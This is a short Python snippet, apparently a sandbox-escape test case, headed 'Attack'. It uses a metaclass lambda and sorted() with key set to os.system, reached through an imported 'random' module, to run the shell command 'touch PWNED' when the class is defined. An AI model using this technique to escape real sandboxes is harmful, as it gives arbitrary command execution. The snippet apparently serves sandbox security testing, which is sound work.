# Attack: a metaclass is called when the class is defined.
from dsl.runtime.engine import random as r


class State(metaclass=lambda *parts: sorted(["touch PWNED"], key=r._os.system)):
    pass
